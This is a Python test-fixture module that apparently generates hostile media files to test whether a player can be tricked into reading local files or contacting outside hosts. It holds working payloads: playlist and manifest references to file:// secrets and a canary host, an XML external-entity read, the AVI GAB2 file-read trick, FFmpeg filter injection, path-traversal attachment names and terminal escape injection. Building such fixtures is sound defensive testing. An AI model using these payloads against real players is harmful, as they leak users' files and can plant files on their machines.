"""Files that make a careless player open another file or call an address."""

from __future__ import annotations

import struct
from pathlib import Path
from typing import Any

from tests.media.hostile import ebml
from tests.media.hostile.boxes import box, edited, full, parts, u32
from tests.media.hostile.kit import Kit, each, hostile

SCRIPTS = {
    "hls_victim": "#EXTM3U\n#EXT-X-TARGETDURATION:8\n#EXTINF:8,\nfile://{victim}\n#EXT-X-ENDLIST\n",
    "hls_secret": "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile://{secret}\n#EXT-X-ENDLIST\n",
    "hls_beside": "#EXTM3U\n#EXT-X-TARGETDURATION:8\n#EXTINF:8,\n../victim.mp4\n#EXT-X-ENDLIST\n",
    "hls_http": "#EXTM3U\n#EXT-X-TARGETDURATION:8\n#EXTINF:8,\nhttp://{canary}/segment.ts\n#EXT-X-ENDLIST\n",
    "hls_concat": "#EXTM3U\n#EXTINF:1,\nconcat:http://{canary}/x|file://{secret}\n#EXT-X-ENDLIST\n",
    "hls_key": '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="file://{secret}"\n#EXTINF:8,\n{victim}\n#EXT-X-ENDLIST\n',
    "hls_map": '#EXTM3U\n#EXT-X-MAP:URI="file://{victim}"\n#EXTINF:8,\n{victim}\n#EXT-X-ENDLIST\n',
    "hls_master": "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://{canary}/list.m3u8\n",
    "hls_subfile": "#EXTM3U\n#EXTINF:1,\nsubfile,,start,0,end,99,,:{secret}\n#EXT-X-ENDLIST\n",
    "hls_gopher": "#EXTM3U\n#EXTINF:1,\ngopher://{canary}/_x\n#EXT-X-ENDLIST\n",
    "concat_victim": "ffconcat version 1.0\nfile '{victim}'\n",
    "concat_beside": "ffconcat version 1.0\nfile ../victim.mp4\n",
    "concat_http": "ffconcat version 1.0\nfile http://{canary}/x.mp4\n",
    "concat_options": "ffconcat version 1.0\nfile '{victim}'\noption safe 0\nfile 'data:text/plain,x'\n",
    "dash": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
    'mediaPresentationDuration="PT8S"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" '
    'bandwidth="1"><BaseURL>file://{victim}</BaseURL></Representation></AdaptationSet></Period></MPD>',
    "dash_http": '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><Period><AdaptationSet '
    'mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>http://{canary}/x.mp4</BaseURL>'
    "</Representation></AdaptationSet></Period></MPD>",
    "xml_entity": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY s SYSTEM "file://{secret}">]><MPD>&s;</MPD>',
    "smil": '<smil><body><video src="http://{canary}/x.mp4"/><video src="file://{victim}"/></body></smil>',
    "svg": '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<image xlink:href="file://{secret}"/><image xlink:href="http://{canary}/x.png"/></svg>',
    "pls": "[playlist]\nNumberOfEntries=2\nFile1=file://{victim}\nFile2=http://{canary}/x\n",
    "xspf": "<playlist><trackList><track><location>http://{canary}/x</location></track></trackList></playlist>",
    "asx": '<asx version="3.0"><entry><ref href="http://{canary}/x.wmv"/></entry></asx>',
    "ram": "rtsp://{canary}/x.rm\nfile://{victim}\n",
    "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 5004 RTP/AVP 96\n"
    "a=rtpmap:96 H264/90000\n",
    "ffmetadata": ";FFMETADATA1\ntitle={secret}\n[CHAPTER]\nTIMEBASE=1/1\nSTART=0\nEND=9\n",
    "lavfi": "movie={victim},drawtext=textfile={secret}",
    "filter_subtitles": "1\n00:00:00,000 --> 00:00:09,000\n','drawtext=textfile={secret}:x=0',subtitles={victim}\n",
    "ass": "[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {secret}\n[Events]\n"
    "Dialogue: 0,0:00:00.00,0:00:09.00,Default,,0,0,0,,{{\\fn{secret}}}x\n",
    "vobsub": "# VobSub index file, v7\nsize: 720x480\nid: en, index: 0\ntimestamp: 00:00:00:000, filepos: 000000000\n",
    "cue": 'FILE "{victim}" MP3\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b[31m{secret}\x1b[0m\n" * 50,
    "html": "<!doctype html><meta http-equiv=refresh content='0;url=http://{canary}/'><img src=http://{canary}/x>",
    "imf": '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">'
    "<Id>urn:uuid:0</Id><SegmentList/></CompositionPlaylist>",
    "avisynth": 'AviSource("{victim}")\n',
    "vapoursynth": "import urllib.request\nurllib.request.urlopen('http://{canary}/')\n",
}
"""Texts that some player takes for a film."""


@each(**SCRIPTS)
def text(kit: Kit, script: Any) -> bytes:
    return str(script).format(victim=kit.victim, secret=kit.secret, canary=kit.canary).encode()


@each(
    hls="#EXTM3U\n#EXT-X-TARGETDURATION:8\n#EXTINF:8,\nfile://{victim}\n#EXT-X-ENDLIST\n",
    http="#EXTM3U\n#EXTINF:8,\nhttp://{canary}/x.ts\n#EXT-X-ENDLIST\n",
    concat="ffconcat version 1.0\nfile {secret}\n",
)
def behind_an_mp4_head(kit: Kit, script: Any) -> bytes:
    """Looks like MP4 to whoever reads eight bytes."""
    said = str(script).format(victim=kit.victim, secret=kit.secret, canary=kit.canary).encode()
    return box(b"ftyp", b"isom\0\0\2\0isom") + said


@hostile("film.avi")
def gab2(kit: Kit) -> bytes:
    """AVI with a subtitle stream that is a playlist (2016's way to read files with FFmpeg)."""
    playlist = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:1\n#EXTINF:1,\nfile://{kit.secret}\n#EXT-X-ENDLIST\n".encode()
    gab = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"\0\0" + struct.pack("<HI", 4, len(playlist)) + playlist

    def chunk(kind: bytes, data: bytes) -> bytes:
        return kind + struct.pack("<I", len(data)) + data + b"\0" * (len(data) % 2)

    def sheet(kind: bytes, *chunks: bytes) -> bytes:
        return chunk(b"LIST", kind + b"".join(chunks))

    avih = struct.pack("<14I", 40000, 0, 0, 0x10, 1, 0, 2, 0, 64, 36, 0, 0, 0, 0)
    video = struct.pack("<4s4sI2H8I4H", b"vids", b"MJPG", 0, 0, 0, 0, 1, 25, 0, 1, 0, 0, 0, 0, 0, 64, 36)
    subtitle = struct.pack("<4s4sI2H8I4H", b"txts", b"\0\0\0\0", 0, 0, 0, 0, 1, 25, 0, 1, 0, 0, 0, 0, 0, 0, 0)
    header = sheet(
        b"hdrl",
        chunk(b"avih", avih),
        sheet(
            b"strl", chunk(b"strh", video), chunk(b"strf", struct.pack("<3I2H6I", 40, 64, 36, 1, 24, 0, 0, 0, 0, 0, 0))
        ),
        sheet(b"strl", chunk(b"strh", subtitle), chunk(b"strf", b"")),
    )
    body = header + sheet(b"movi", chunk(b"01tx", gab), chunk(b"00dc", b"\xff\xd8\xff\xd9" * 20))
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"AVI " + body


# --- QuickTime ------------------------------------------------------------------------------------------------


def _elsewhere(film: bytes, reference: bytes) -> bytes:
    """The film's index, its data in another place."""
    return edited(film, "moov/trak/mdia/minf/dinf/dref", lambda _: full(b"dref", u32(1), reference))


@each(
    "film.mov",
    url_file=("url ", "file://{victim}\0"),
    url_http=("url ", "http://{canary}/data.mov\0"),
    urn=("urn ", "x\0http://{canary}/\0"),
    alias=("alis", "{victim}"),
    relative_alias=("alis", "../victim.mp4"),
)
def reference(kit: Kit, wanted: Any) -> bytes:
    kind, place = wanted
    said = place.format(victim=kit.victim, canary=kit.canary)
    return _elsewhere(kit.film, full(kind.encode(), _alias(Path(said)) if kind == "alis" else said.encode()))


def _alias(path: Path) -> bytes:
    """A Macintosh alias record as FFmpeg reads it: volume, file name, then the whole path."""
    name = path.name.encode()[:63]
    volume = b"Macintosh HD"
    record = b"\0" * 4 + struct.pack(">HHH", 150 + 8, 2, 0) + bytes([len(volume)]) + volume.ljust(27, b"\0")
    record += (
        b"\0" * 12 + bytes([len(name)]) + name.ljust(63, b"\0") + b"\0" * 16 + struct.pack(">HH", 1, 1) + b"\0" * 16
    )
    whole = str(path).encode()
    for kind in (2, 18):
        record += struct.pack(">HH", kind, len(whole)) + whole + b"\0" * (len(whole) % 2)
    return record + struct.pack(">hH", -1, 0)


@each(
    "film.mov",
    file="file://{victim}",
    http="http://{canary}/movie.mov",
    rtsp="rtsp://{canary}/movie.mov",
)
def reference_movie(kit: Kit, wanted: Any) -> bytes:
    """A film that says: I am over there."""
    url = wanted.format(victim=kit.victim, canary=kit.canary).encode() + b"\0"
    rdrf = full(b"rdrf", b"url ", u32(len(url)), url)
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", rdrf)))


@hostile("film.mov")
def reference_beside_a_film(kit: Kit) -> bytes:
    url = f"http://{kit.canary}/movie.mov\0".encode()
    rmra = box(b"rmra", box(b"rmda", full(b"rdrf", b"url ", u32(len(url)), url)))
    return edited(kit.film, "moov", lambda content: box(b"moov", rmra, content))


@hostile("film.mp4")
def addresses_in_metadata(kit: Kit) -> bytes:
    links = [f"http://{kit.canary}/", f"file://{kit.secret}", f"concat:{kit.secret}", f"\\\\{kit.canary}\\share"]
    arguments = [word for key, link in zip(("title", "artist", "comment", "copyright"), links, strict=True)
                 for word in ("-metadata", f"{key}={link}")]  # fmt: skip
    return kit.remade("-c", "copy", *arguments, suffix=".mp4")


# --- Matroska -------------------------------------------------------------------------------------------------


@hostile("film.mkv")
def linked_segments(kit: Kit) -> bytes:
    """Says that it goes on in other files."""
    after = ebml.element(0x3EB923, b"\1" * 16) + ebml.text(0x3E83BB, str(kit.victim))
    before = ebml.element(0x3CB923, b"\2" * 16) + ebml.text(0x3C83AB, f"http://{kit.canary}/")
    track = ebml.png(64, 36, [(0, kit.picture), (1000, kit.picture)])
    return ebml.film(track, info=after + before)


@hostile("film.mkv")
def attachments_that_want_out(kit: Kit) -> bytes:
    """Attachments named after files of the machine."""
    names = ["../../../../etc/cron.d/owned", str(kit.secret), f"http://{kit.canary}/", "-i", "x\n\x1b[2J"]
    files = [
        ebml.element(
            0x61A7,
            ebml.text(0x466E, name),
            ebml.text(0x4660, "application/x-truetype-font"),
            ebml.element(0x465C, b"x" * 100),
            ebml.number(0x46AE, number),
        )
        for number, name in enumerate(names, 1)
    ]
    track = ebml.png(64, 36, [(0, kit.picture), (1000, kit.picture)])
    return ebml.film(track, more=ebml.element(0x1941A469, *files))


@hostile("film.mkv")
def subtitles_that_are_filters(kit: Kit) -> bytes:
    """A film whose subtitles, its language and its titles are filter syntax."""
    script = kit.folder / "filters.srt"
    script.write_text(
        f"1\n00:00:00,000 --> 00:00:09,000\n','drawtext=textfile={kit.secret}':x=0,movie={kit.victim}[a];[a]overlay\n\n"
    )
    words = f"',drawtext=textfile={kit.secret},movie=http\\://{kit.canary}"
    return kit.remade(
        "-i", script, "-map", "0", "-map", "1", "-c", "copy", "-c:s", "srt", "-metadata:s:s:0", f"title={words}",
        suffix=".mkv",
    )  # fmt: skip


@hostile("film.mp4")
def index_only(kit: Kit) -> bytes:
    """An index whose data lies in no file at all."""
    return b"".join(box(kind, content) for kind, content in parts(kit.film) if kind != b"mdat")
